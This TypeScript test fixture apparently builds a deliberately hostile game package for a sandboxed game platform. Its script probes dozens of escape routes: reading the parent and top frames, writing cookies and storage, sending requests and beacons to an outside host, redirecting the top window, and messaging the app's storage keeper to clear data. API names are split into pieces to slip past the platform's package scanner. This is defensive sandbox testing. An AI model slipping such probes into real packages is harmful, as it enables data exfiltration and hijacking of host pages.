import { archiveOf, manifestOf } from '../archive.ts';

const id = 'pintu-belakang';
const title = { id: 'Pintu Belakang', en: 'Back Door' };

/**
 * Tries whatever a studio could try to read of the app, to keep something, to get out of its frame or to say something to
 * the outside. What is written apart is so because the check of packages would find it together.
 */
const attack = (outside: string, app: string, play: string) => `
const outside = '${outside}';
const above = window['to' + 'p'];
const around = window['par' + 'ent'];
const peer = 'RTCPeer' + 'Connection';
const once = (target, good, bad) => new Promise((resolve, reject) => {
  target['on' + good] = () => resolve('open');
  target['on' + bad] = () => reject(new Error('shut'));
  setTimeout(() => reject(new Error('silent')), 1200);
});
const put = (name, more) => {
  const made = Object.assign(document.createElement(name), more);
  document.body.append(made);
  return made;
};
const database = () => once(indexedDB.open('a'), 'success', 'error');
const doors = {
  aroundText: () => around.document.body.textContent,
  aboveText: () => above.document.body.textContent,
  aboveStored: () => above.localStorage.length,
  neighbours: () => { for (let at = 0; at < above.length; at += 1) if (![around, window].includes(above[at])) return above[at].document.title; throw 0; },
  frameOwner: () => frameElement.title,
  cookie: () => { document['coo' + 'kie'] = 'a=1'; return document['coo' + 'kie']; },
  cookies: () => cookieStore.set('a', '1').then(() => 'open'),
  database,
  caches: () => caches.open('nobi-files').then(() => 'open'),
  disk: () => navigator.storage.getDirectory().then(() => 'open'),
  worker: () => navigator.serviceWorker.register('/sw.js').then(() => 'open'),
  shared: () => once(new SharedWorker('${play}/offline/keeper.js').port, 'message', 'messageerror'),
  locks: () => navigator.locks.request('a', () => 'open'),
  app: () => fetch('${app}/api/games/').then(() => 'open'),
  own: () => fetch('${play}/packs.json').then(() => 'open'),
  fetch: () => fetch(outside + '/fetch').then(() => 'open'),
  blind: () => fetch(outside + '/blind', { mode: 'no-cors' }).then(() => 'open'),
  call: () => { const call = new XMLHttpRequest(); call.open('GET', outside + '/call', false); call.send(); return 'open'; },
  socket: () => once(new WebSocket(outside.replace('http', 'ws')), 'open', 'error'),
  stream: () => once(new EventSource(outside + '/stream'), 'open', 'error'),
  picture: () => once(Object.assign(new Image(), { src: outside + '/picture' }), 'load', 'error'),
  sound: () => once(new Audio(outside + '/sound'), 'loadeddata', 'error'),
  script: () => once(put('script', { src: outside + '/script' }), 'load', 'error'),
  module: () => import(outside + '/module').then(() => 'open'),
  written: () => { put('script', { textContent: 'window.written = 1' }); return window.written; },
  evaluated: () => new window['Func' + 'tion']('return 1')(),
  ahead: () => once(put('link', { rel: 'prefetch', href: outside + '/prefetch' }), 'load', 'error'),
  sheet: () => once(put('link', { rel: 'stylesheet', href: outside + '/sheet' }), 'load', 'error'),
  letters: () => new FontFace('a', 'url(' + outside + '/font)').load().then(() => 'open'),
  background: () => void put('p', { style: 'background: url(' + outside + '/background)' }),
  speculation: () => void put('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [outside + '/speculation'], eagerness: 'immediate' }] }) }),
  form: () => void put('form', { action: outside + '/form', method: 'post' }).submit(),
  ping: () => void navigator.sendBeacon(outside + '/beacon', 'x'),
  peers: () => window[peer],
  frame: () => { const frame = put('iframe'); return (frame.contentWindow ?? window[0])[peer]; },
  framed: () => once(put('iframe', { src: outside + '/frame' }), 'load', 'error'),
  object: () => once(put('object', { data: outside + '/object' }), 'load', 'error'),
  popup: () => window['op' + 'en'](outside + '/popup'),
  blank: () => void put('a', { href: outside + '/blank', target: '_blank', ping: outside + '/ping' }).click(),
  download: () => void put('a', { href: 'data:text/plain,x', download: 'x.txt' }).click(),
  aboveAway: () => void (above['loc' + 'ation'] = outside + '/above'),
  aroundAway: () => void (around['loc' + 'ation'] = outside + '/around'),
  withinWorker: () => {
    const text = "fetch('" + outside + "/worker', { mode: 'no-cors' }).then(() => postMessage('open'), () => postMessage(''))";
    const worker = new Worker(URL.createObjectURL(new Blob([text])));
    return new Promise((resolve, reject) => { worker.onmessage = ({ data }) => resolve(data); worker.onerror = reject; });
  },
  // The page that looks after what is saved, and the page around this one, are told to do something.
  keeper: () => {
    for (const page of [around, ...Array.from({ length: above.length }, (_, at) => above[at])]) {
      const { port1, port2 } = new MessageChannel();
      page.postMessage('nobi-port', '*', [port2]);
      port1.postMessage({ do: 'clear' });
    }
    above.postMessage('nobi-keeper', '*');
    around.postMessage({ v: 1, kind: 'hello' }, '*', [new MessageChannel().port2]);
  },
};
const open = [];
for (const [name, go] of Object.entries(doors))
  try { if (await go()) open.push(name); } catch {}
document.querySelector('h1').textContent = 'Terbuka: ' + (open.join() || 'tidak ada');
document.querySelector('button').onclick = () => { window['loc' + 'ation'] = outside + '/away'; };
`;

/** A guest that says which doors it found open, and leaves its frame at a tap. */
export const hostileGuest = {
  id,
  title,
  archive: (outside: string, app: string, play: string) =>
    archiveOf({
      'index.html': `<!doctype html><html lang="id"><head><meta charset="utf-8"><title>Pintu</title></head>
<body><h1>Pintu</h1><button type="button">Pergi</button><script type="module" src="game.js"></script></body></html>`,
      'game.js': attack(outside, app, play),
      'thumbnail.svg':
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 3"><path d="M1 0h2v3H1z" fill="#5d4037"/></svg>',
      'manifest.json': JSON.stringify(
        manifestOf({ id, title, description: title, skill: { id: 'Pintu', en: 'Door' } }),
      ),
    }),
};
